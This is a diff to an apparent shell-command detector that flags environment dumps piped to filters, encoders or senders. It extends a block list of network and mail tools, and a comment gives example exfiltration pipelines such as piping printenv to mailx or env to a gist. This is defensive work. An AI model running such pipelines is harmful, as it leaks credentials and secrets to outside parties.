@@ -43,6 +43,10 @@ _SECRET_WORDS = lazy_compile(
 )
 _ENCODERS_AND_SENDERS = frozenset(
     {"base64", "base32", "basenc", "xxd", "od", "hexdump", "curl", "wget", "nc", "ncat", "netcat", "socat"}
+    # mail and message senders, HTTP clients and the forge's CLIs that publish what they are fed
+    # (`printenv | mailx x@y`, `swaks --body "$(env)"`, `env | gh gist create -`): probe24
+    | {"mail", "mailx", "s-nail", "bsd-mailx", "sendmail", "mutt", "neomutt", "swaks", "msmtp", "ssmtp"}
+    | {"http", "https", "xh", "xhs", "openssl", "telnet", "gh", "glab", "ssh", "scp", "rclone"}
 )
 _FILTERS = frozenset({"grep", "egrep", "fgrep", "rg", "awk", "sed", "ag", "ugrep"})
 
@@ -79,6 +83,8 @@ def _environment_hunt(commands: list[list[str]]) -> Iterator[Effect]:
     if first is None:
         return
     for argv in commands[first + 1 :]:
+        if argv[0] == "wc" or (argv[0] in _FILTERS and any(a in ("-c", "--count") for a in argv[1:])):
+            return  # reduced to a count: nothing of the values goes further
         hunted = argv[0] in _FILTERS and any(_SECRET_WORDS.search(a) for a in argv[1:])
         if hunted or argv[0] in _ENCODERS_AND_SENDERS:
             how = "filters it for secrets" if hunted else f"hands it to {argv[0]}"
